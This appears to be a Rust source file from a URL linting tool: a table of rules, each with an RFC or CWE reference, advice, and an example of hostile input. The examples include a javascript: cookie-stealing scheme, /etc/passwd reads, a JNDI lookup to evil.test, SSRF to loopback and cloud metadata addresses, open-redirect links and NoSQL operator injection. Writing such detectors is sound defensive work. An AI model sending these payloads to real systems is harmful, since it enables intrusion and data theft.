//! The rules that only the feature `all-rules` checks.
#![forbid(unsafe_code)]

use Context::{Any, Form, Host, Path, Query, Url};
use Severity::{Error, Info, Warn};

use super::address::{PRIVATE_ENDS, PRIVATE_NAMES, PUBLIC_NAMES, WILDCARDS};
use super::context::{Context, Severity};
use super::needs::{
    ASCII_TRIPLET, BARE_HOST, CALLBACK, CONTROL, DISGUISED, MALFORMED, NON_ASCII, SCHEME_RELATIVE,
    SECRET, TARGET, UNUSUAL, VALUE_SCHEME, host, outside, pairs, path, path_and_pairs, text,
    values,
};
use super::row::Row;
use super::rule::Rule;

/// The rules that only the feature `all-rules` checks.
#[rustfmt::skip]
pub(super) const MORE: [Row; 51] = [
    // The grammar.
    Row {
        rule: Rule::InvalidScheme, name: "invalid-scheme", severity: Error, reference: "RFC 3986 3.1, 4.2",
        message: "a `:` before the first slash, but no scheme before it",
        example: (Url, b"4files://store.test/a"), counterexample: b"files4://store.test/a",
        advice: "Correct the scheme, or begin a relative path with `./`.",
        needs: &outside(),
    },
    Row {
        rule: Rule::EmptyHost, name: "empty-host", severity: Error, reference: "RFC 3986 3.2.2, RFC 9110 4.2.1",
        message: "the host is missing: programs take the next text for it",
        example: (Url, b"http://:8080/admin"), counterexample: b"http://h:8080/admin",
        advice: "Write the host, or refuse the reference.",
        needs: &outside(),
    },
    Row {
        rule: Rule::InvalidPort, name: "invalid-port", severity: Error, reference: "RFC 3986 3.2.3",
        message: "what follows the host is not a port",
        example: (Url, b"http://shop.test:80a/"), counterexample: b"http://shop.test:80/a",
        advice: "Write a decimal number up to 65535, or refuse the reference.",
        needs: &outside(),
    },
    Row {
        rule: Rule::InvalidIpLiteral, name: "invalid-ip-literal", severity: Error, reference: "RFC 3986 3.2.2",
        message: "brackets around a host are for an IPv6 address",
        example: (Url, b"http://[intranet.test]/"), counterexample: b"http://[2001:db8::1]/",
        advice: "Write an IPv6 address between both brackets, and names without brackets.",
        needs: &host(&[UNUSUAL]),
    },
    Row {
        rule: Rule::InvalidLabel, name: "invalid-label", severity: Warn, reference: "RFC 1034 3.1, RFC 1123 2.1",
        message: "a label that no name has: empty, too long, with a mark, or with a hyphen at its end",
        example: (Host, b"a..b.test"), counterexample: b"a.b.test",
        advice: "Refuse the name: DNS has no such label.",
        needs: &host(&[UNUSUAL, &[b"..", b"\0.", b".\0", b"-.", b".-", b"-\0"]]),
    },
    Row {
        rule: Rule::DisallowedChar, name: "disallowed-char", severity: Warn, reference: "RFC 3986 2",
        message: "a character that this component may not have as it is",
        example: (Path, b"/a\"b"), counterexample: b"/a%22b",
        advice: "Encode it as a triplet.",
        needs: &text(&[&[b"[][{}\"<>^`|#?]"]]),
    },
    Row {
        rule: Rule::RawSpace, name: "raw-space", severity: Warn, reference: "RFC 3986 2",
        message: "a space as it is: a line of HTTP or a log ends there",
        example: (Path, b"/a b"), counterexample: b"/a%20b",
        advice: "Encode it as `%20`, and trim a reference that somebody typed.",
        needs: &text(&[&[b" "]]),
    },
    Row {
        rule: Rule::RawControl, name: "raw-control", severity: Error, reference: "RFC 3986 2",
        message: "a control character as it is; browsers drop tabs and line breaks",
        example: (Url, b"https://a.test/b\tc"), counterexample: b"https://a.test/b%09c",
        advice: "Refuse it, or encode it.",
        needs: &text(&[CONTROL]),
    },
    Row {
        rule: Rule::RawByte, name: "raw-byte", severity: Error, reference: "RFC 3987 3.1",
        message: "a raw byte that is not UTF-8: neither a URI nor an IRI",
        example: (Path, b"/caf\xE9"), counterexample: b"/caf%E9",
        advice: "Find the charset of the text, and encode its octets.",
        needs: &text(&[NON_ASCII]),
    },
    // Schemes.
    Row {
        rule: Rule::ScriptScheme, name: "script-scheme", severity: Error, reference: "CWE-79, WHATWG HTML 7.4.2",
        message: "a scheme whose target is run as a script or shown as a page of yours",
        example: (Url, b"javascript:alert(document.cookie)"), counterexample: b"javascript/alert(document.cookie)",
        advice: "Allow http, https and mailto by name, and compare after controls and entities are removed.",
        needs: &values(&[VALUE_SCHEME]),
    },
    Row {
        rule: Rule::FetcherScheme, name: "fetcher-scheme", severity: Warn, reference: "CWE-918",
        message: "a scheme that libraries fetch or run beside http",
        example: (Query, b"src=file:///etc/passwd"), counterexample: b"src=file",
        advice: "Allow the schemes that you need by name.",
        needs: &values(&[VALUE_SCHEME]),
    },
    // Which host is it?
    Row {
        rule: Rule::WrongSlashes, name: "wrong-slashes", severity: Warn, reference: "WHATWG URL 4.4, CWE-601",
        message: "a scheme with a host, but not two slashes: browsers correct it, others do not",
        example: (Url, b"https:evil.test/path"), counterexample: b"https://good.test/path",
        advice: "Write two slashes, or refuse the reference.",
        needs: &values(&[VALUE_SCHEME]),
    },
    Row {
        rule: Rule::MisleadingUserinfo, name: "misleading-userinfo", severity: Warn, reference: "RFC 3986 7.6, CWE-1007",
        message: "a userinfo that looks like a host: the host comes after the `@`",
        example: (Url, b"https://accounts.bank.test@evil.test/login"), counterexample: b"https://anna@good.test/login",
        advice: "Show the host alone, and refuse a userinfo in links.",
        needs: &path_and_pairs(&[VALUE_SCHEME, SCHEME_RELATIVE], &[VALUE_SCHEME, SCHEME_RELATIVE, &[b"[@+ ]@"]]),
    },
    Row {
        rule: Rule::Credentials, name: "credentials-in-userinfo", severity: Info, reference: "RFC 3986 3.2.1, 7.5, CWE-522",
        message: "a password in the reference: logs and histories keep it",
        example: (Url, b"https://user:secret@example.com/"), counterexample: b"https://user@example.com/",
        advice: "Send credentials in a header.",
        needs: &outside(),
    },
    Row {
        rule: Rule::AtSignAfterHost, name: "at-sign-after-host", severity: Info, reference: "RFC 3986 3.2, CWE-918",
        message: "the host ends at a `?` or `#` that other parsers read as part of it",
        example: (Url, b"http://evil.test#@good.test/"), counterexample: b"http://good.test/#@anna",
        advice: "Use one parser for the check and for the request.",
        needs: &outside(),
    },
    Row {
        rule: Rule::NumericHost, name: "numeric-host", severity: Warn, reference: "WHATWG URL 3.5, RFC 3986 7.4, CWE-918",
        message: "an IPv4 address in an unusual form: filters that compare text miss it",
        example: (Url, b"http://2130706433/"), counterexample: b"http://192.0.2.1/",
        advice: "Write four decimal numbers, and check the address that was resolved.",
        needs: &values(&[VALUE_SCHEME, SCHEME_RELATIVE]).and_host(&[UNUSUAL, &[b"[0-9]\0", b"[0-9].\0", b"~0x"]]),
    },
    Row {
        rule: Rule::PrivateHost, name: "private-host", severity: Info, reference: "RFC 6890, RFC 6761, CWE-918",
        message: "a loopback, private, link-local or other address that is not public",
        example: (Query, b"url=http://127.0.0.1:8080/admin"), counterexample: b"url=http://192.0.2.1:8080/admin",
        advice: "Check the address that was resolved, and refuse addresses that are not public.",
        needs: &path_and_pairs(&[VALUE_SCHEME, SCHEME_RELATIVE], &[VALUE_SCHEME, SCHEME_RELATIVE, TARGET, BARE_HOST]).and_host(&[UNUSUAL, &[b"[0-9]\0", b"[0-9].\0", b"~0x", b"[0-9][.-][0-9]"]]).and_names(&[&PRIVATE_ENDS, &PRIVATE_NAMES, &PUBLIC_NAMES]),
    },
    Row {
        rule: Rule::EmbeddedIpv4, name: "embedded-ipv4", severity: Warn, reference: "RFC 4291 2.5.5, RFC 6052, CWE-918",
        message: "an IPv4 address within an IPv6 address or a name",
        example: (Url, b"http://[::ffff:169.254.169.254]/"), counterexample: b"http://[2001:db8::1]/",
        advice: "Check the embedded address too.",
        needs: &values(&[VALUE_SCHEME, SCHEME_RELATIVE]).and_host(&[UNUSUAL, &[b"[0-9][.-][0-9]"]]).and_names(&[&WILDCARDS]),
    },
    Row {
        rule: Rule::ZoneId, name: "zone-id", severity: Warn, reference: "RFC 6874, RFC 9844",
        message: "a zone of an IPv6 address: parsers disagree where it ends",
        example: (Url, b"http://[::1%25.example.com]/"), counterexample: b"http://[2001:db8::1]/%25.example.com",
        advice: "Refuse zones in references that come from outside.",
        needs: &host(&[UNUSUAL]),
    },
    // Values.
    Row {
        rule: Rule::UrlInValue, name: "url-in-value", severity: Info, reference: "CWE-601, CWE-918",
        message: "a reference as a value: a redirect or a request may follow it",
        example: (Query, b"next=https://example.com/"), counterexample: b"next=https",
        advice: "Compare its origin with a list before you follow it.",
        needs: &values(&[VALUE_SCHEME, SCHEME_RELATIVE]),
    },
    Row {
        rule: Rule::SchemeRelativeValue, name: "scheme-relative-value", severity: Warn, reference: "RFC 3986 4.2, CWE-601",
        message: "a value that looks like a path, but names a host",
        example: (Query, b"next=//evil.test/x"), counterexample: b"next=/good.test/x",
        advice: "Resolve it first, then compare the origin.",
        needs: &path_and_pairs(&[SCHEME_RELATIVE], &[SCHEME_RELATIVE, NON_ASCII, &[b"[].[=&\0][~$@.]"]]),
    },
    Row {
        rule: Rule::NetworkPath, name: "network-path", severity: Warn, reference: "RFC 3986 3.3, 4.2, CWE-601",
        message: "a path that begins with two slashes: as a reference it names a host",
        example: (Path, b"//evil.test/x"), counterexample: b"/good.test/x",
        advice: "Remove all slashes but one before you redirect to it.",
        needs: &path(&[ASCII_TRIPLET, DISGUISED, &[b"//", b"[\\]"]]),
    },
    // Names.
    Row {
        rule: Rule::MixedScript, name: "mixed-script", severity: Warn, reference: "UTS #39 5.1, 5.2",
        message: "letters of scripts that no language mixes in a name",
        example: (Host, b"p\xD0\xB0ypal.test"), counterexample: b"\xD0\xBF\xD1\x80\xD0\xB0.test",
        advice: "Show the name in Punycode.",
        needs: &pairs(&[NON_ASCII]).and_host(&[UNUSUAL, &[b"~xn--"]]),
    },
    Row {
        rule: Rule::ConfusableLabel, name: "confusable-label", severity: Info, reference: "UTS #39 4",
        message: "all letters of a label look like letters of ASCII",
        example: (Host, b"xn--80ak6aa92e.com"), counterexample: b"xn--mnchen-3ya.com",
        advice: "Show the name in Punycode.",
        needs: &pairs(&[NON_ASCII]).and_host(&[UNUSUAL, &[b"~xn--"]]),
    },
    Row {
        rule: Rule::IdnaDeviation, name: "idna-deviation", severity: Info, reference: "UTS #46 4",
        message: "a character that IDNA 2003 and IDNA 2008 map in different ways",
        example: (Host, b"fa\xC3\x9F.de"), counterexample: b"fass.de",
        advice: "Resolve the A-label, and compare A-labels.",
        needs: &host(&[UNUSUAL, &[b"~xn--"]]),
    },
    Row {
        rule: Rule::IdnaDot, name: "idna-dot", severity: Info, reference: "UTS #46 2.3",
        message: "a full stop of another script, which IDNA reads as a dot",
        example: (Host, b"evil\xE3\x80\x82test"), counterexample: b"good.test",
        advice: "Map the name before you split it into labels.",
        needs: &host(&[UNUSUAL]),
    },
    Row {
        rule: Rule::ConfusableDelimiter, name: "confusable-delimiter", severity: Warn, reference: "UTS #39 4, CWE-1007",
        message: "a character that looks like a delimiter",
        example: (Host, b"good.test\xE2\x88\x95a.evil.test"), counterexample: b"good.test.a",
        advice: "Show the name in Punycode.",
        needs: &host(&[UNUSUAL]),
    },
    Row {
        rule: Rule::CaseFold, name: "case-fold", severity: Info, reference: "UTS #46 2, CWE-178",
        message: "a character that becomes ASCII when its case is changed",
        example: (Path, b"/adm%C4%B1n"), counterexample: b"/adm%C3%ADn",
        advice: "Compare without changing case, or fold before you check.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::CompatChar, name: "compat-char", severity: Info, reference: "UAX #15, CWE-180",
        message: "a character that becomes ASCII by compatibility normalisation",
        example: (Path, b"/%EF%BD%81dmin"), counterexample: b"/%C3%A1dmin",
        advice: "Normalize before you check, not after.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::BestFitChar, name: "best-fit-char", severity: Info, reference: "CWE-176",
        message: "a character that code pages of Windows replace by one that programs act on",
        example: (Query, b"%E2%88%92d+a%3Db"), counterexample: b"%C3%A4d+a%3Db",
        advice: "Call the interfaces for Unicode, and check the text as it is passed on.",
        needs: &text(&[NON_ASCII]),
    },
    // Octets.
    Row {
        rule: Rule::TruncatedUtf8, name: "truncated-utf8", severity: Warn, reference: "RFC 3629 3, Unicode 3.9",
        message: "the first octets of a character, but not all: the text was cut",
        example: (Path, b"/a/%E4%B8"), counterexample: b"/a/%E4%B8%AD",
        advice: "Cut texts between characters.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::Noncharacter, name: "noncharacter", severity: Warn, reference: "Unicode 23.7",
        message: "a code point that is never a character",
        example: (Path, b"/%EF%B7%90"), counterexample: b"/%EF%BF%BD",
        advice: "Refuse it.",
        needs: &text(&[NON_ASCII]),
    },
    Row {
        rule: Rule::Utf7, name: "utf-7", severity: Info, reference: "RFC 2152, CWE-79",
        message: "UTF-7, in which markup passes filters",
        example: (Any, b"+ADw-script+AD4-"), counterexample: b"+BEE-word",
        advice: "Send a charset with every page.",
        needs: &text(&[&[b"[+Bb]A[CD]"]]),
    },
    // Layers and paths.
    Row {
        rule: Rule::NestedTriplet, name: "nested-triplet", severity: Warn, reference: "CWE-174",
        message: "a triplet that only a second decoding completes",
        example: (Path, b"/..%%35c"), counterexample: b"/..%2535c",
        advice: "Decode exactly once, and refuse malformed triplets.",
        needs: &text(&[MALFORMED]),
    },
    Row {
        rule: Rule::EmptySegment, name: "empty-segment", severity: Info, reference: "RFC 3986 3.3",
        message: "an empty segment: some programs merge slashes, others do not",
        example: (Path, b"/data//secret"), counterexample: b"/data/secret",
        advice: "Compare paths in the form in which they are opened.",
        needs: &path(&[&[b"//"]]),
    },
    Row {
        rule: Rule::PathParameter, name: "path-parameter", severity: Info, reference: "RFC 3986 3.3",
        message: "a parameter of a segment: some programs remove it before they compare",
        example: (Path, b"/admin;x=1/users"), counterexample: b"/admin,x=1/users",
        advice: "Compare the path as the program reads it that answers.",
        needs: &values(&[ASCII_TRIPLET, &[b";", b"([A-Z]("]]),
    },
    Row {
        rule: Rule::WindowsTrailing, name: "windows-trailing", severity: Info, reference: "CWE-42, CWE-46",
        message: "a dot or a space at the end of a name, which Windows drops",
        example: (Path, b"/index.php."), counterexample: b"/index.php",
        advice: "Remove them before you compare, or refuse them.",
        needs: &values(&[ASCII_TRIPLET, &[b".[/&\0]", b"%20[/&\0]", b" [&\0]"]]),
    },
    Row {
        rule: Rule::WindowsShortName, name: "windows-short-name", severity: Warn, reference: "CWE-58",
        message: "a short name of Windows: the same file under another name",
        example: (Path, b"/PROGRA~1/a"), counterexample: b"/PROGRAM~X/a",
        advice: "Refuse such names, or compare the long name.",
        needs: &path(&[ASCII_TRIPLET, &[b"[~][0-9]"]]),
    },
    Row {
        rule: Rule::WindowsDrive, name: "windows-drive", severity: Info, reference: "CWE-39",
        message: "a drive of Windows: joined to a folder, it replaces the folder",
        example: (Path, b"/C:/windows/win.ini"), counterexample: b"/CD:/windows/win.ini",
        advice: "Refuse a colon in the first segment.",
        needs: &values(&[ASCII_TRIPLET, &[b":", b"[][{}\"<>^`|#?]", b"[\\]"]]),
    },
    // Forms.
    Row {
        rule: Rule::FieldLimit, name: "field-limit", severity: Warn, reference: "CWE-770",
        message: "more pairs than common frameworks read; what follows is dropped or refused",
        example: (Form, b"a&"), counterexample: b"a&b",
        advice: "Limit the number of pairs, and refuse more.",
        needs: &pairs(&[&[b"&"]]),
    },
    Row {
        rule: Rule::ObjectGraphName, name: "object-graph-name", severity: Warn, reference: "CWE-915, CWE-470",
        message: "a name that binders follow into objects of the program or its global variables",
        example: (Form, b"class.module.classLoader.x=1"), counterexample: b"class.id=1",
        advice: "Bind the names that you expect, and no others.",
        needs: &pairs(&[ASCII_TRIPLET, &[b"GLOB", b"_[SEGPCFR][ENOI][RSVTOLQ]", b"~[so][ln][od][ao]", b"~[._][gm]e[tm]", b"~['\"s][]s][.[(]", b"[[(][#%]", b":", b"[].[=&\0][~$@.]", b"__[pdlcmsgbi]"]]),
    },
    Row {
        rule: Rule::QueryOperator, name: "query-operator", severity: Info, reference: "CWE-943",
        message: "a name with an operator of a database",
        example: (Form, b"password[$ne]=x"), counterexample: b"password[ne]=x",
        advice: "Require that the value is text.",
        needs: &pairs(&[ASCII_TRIPLET, &[b"[].[=&\0][~$@.]"]]),
    },
    Row {
        rule: Rule::Expression, name: "expression", severity: Info, reference: "CWE-917, CWE-1336",
        message: "an expression of a template or of a logger",
        example: (Query, b"x=${jndi:ldap://evil.test/a}"), counterexample: b"x=$jndi",
        advice: "Never expand text that comes from outside.",
        needs: &text(&[&[b"[{<]", b"[$Tt](", b"[[(][#%]", b"%[237][38BCbc]"]]),
    },
    Row {
        rule: Rule::HtmlAmpersand, name: "html-ampersand", severity: Warn, reference: "HTML 13.1.4",
        message: "an `&` as HTML writes it: the next name begins with `amp;`",
        example: (Query, b"a=1&amp;b=2"), counterexample: b"a=1&amp=2",
        advice: "Copy the link from the page and not from its source, or decode the references of HTML first: `&`.",
        needs: &pairs(&[&[b"&[aA#][mMxX03][pP0-9]"]]),
    },
    // What programs are asked for.
    Row {
        rule: Rule::SystemFile, name: "system-file", severity: Warn, reference: "CWE-22, CWE-73",
        message: "a file of the system or of a person's own folder",
        example: (Query, b"file=/etc/passwd"), counterexample: b"file=/etcetera",
        advice: "Open files by a name from a list, below one folder.",
        needs: &path_and_pairs(&[ASCII_TRIPLET, &[b"~/etc", b"roc/", b"~dows"]], &[ASCII_TRIPLET, MALFORMED, &[b"[=&\0]/[edprvus][tervoausy]", b"[].[=&\0][~$@.]", b"~[aen][cnr][ht]=", b":", b"~c/[ps][ah]", b"~[.-]in[fi]"]]),
    },
    Row {
        rule: Rule::HiddenFile, name: "hidden-file", severity: Warn, reference: "CWE-538, CWE-527",
        message: "a file that a server must not give out: of version control, with passwords or keys, or of a program's own folder",
        example: (Path, b"/.git/config"), counterexample: b"/.well-known/security.txt",
        advice: "Keep such files out of the folder that you serve, and answer 404.",
        needs: &path_and_pairs(&[ASCII_TRIPLET, &[b"[/.].", b"\0.", b"~-inf", b"~id_[red]", b"~wp-c", b"~.[kp]e[ym]", b"~.tfs", b"~/cvs", b"~/_da", b"~[.d][bsu][aqm][klp]", b"~hp~", b"~eb.c", b"~[./]htp", b"~.[pshs][aw][sp]"]], &[ASCII_TRIPLET, &[b"[].[=&\0][~$@.]", b"[/\\.].", b"~[.-]in[fi]", b"~[we][pb][.-]c"]]),
    },
    Row {
        rule: Rule::CacheDeception, name: "cache-deception", severity: Warn, reference: "CWE-525, CWE-436",
        message: "a page that ends like a static file, or the reverse: a cache keeps it for everybody, or a server runs it",
        example: (Path, b"/account;x.css"), counterexample: b"/account/x.css",
        advice: "Let a cache decide by the header fields of the answer, and refuse paths that no page has.",
        needs: &path(&[ASCII_TRIPLET, &[b";", b"~php/", b"~asp[x/]", b"~jsp[x/]", b"~.do/", b"~[jptg][pnxi][gtf]/", b"~peg/"]]),
    },
    Row {
        rule: Rule::CallbackCode, name: "callback-code", severity: Warn, reference: "CWE-79, CWE-116",
        message: "the name of a function that is code, or that reaches into the page",
        example: (Query, b"callback=alert(1)"), counterexample: b"callback=alert1",
        advice: "Accept letters, digits and `_` only, or send JSON.",
        needs: &pairs(&[CALLBACK]),
    },
    Row {
        rule: Rule::SecretInQuery, name: "secret-in-query", severity: Info, reference: "RFC 3986 7.5, RFC 6750 5.3, CWE-598",
        message: "a password or a key in the query of a reference: logs, histories and other sites see it",
        example: (Query, b"password=hunter2"), counterexample: b"passwords=2",
        advice: "Send secrets in a header field or in the body of a request.",
        needs: &pairs(&[SECRET]),
    },
    Row {
        rule: Rule::HeaderAsName, name: "header-as-name", severity: Warn, reference: "CWE-644, CWE-444",
        message: "the name of a header field by which proxies say what was asked for",
        example: (Query, b"X-Forwarded-Host=evil.test"), counterexample: b"Forwarded=1",
        advice: "Do not read header fields from parameters.",
        needs: &pairs(&[&[b"~x-[fromh]", b"~[._][gm]e[tm]"]]),
    },
    Row {
        rule: Rule::NestedQuery, name: "nested-query", severity: Info, reference: "RFC 3986 3.4",
        message: "a second `?` is data: what follows the next `&` is not of the reference in the value, but of the outer one",
        example: (Query, b"next=/a?b=1&c=2"), counterexample: b"next=/a%3Fb=1",
        advice: "Encode a reference before it becomes a value: `triplet uri set query:next=…`.",
        needs: &pairs(&[&[b"?"]]),
    },
];
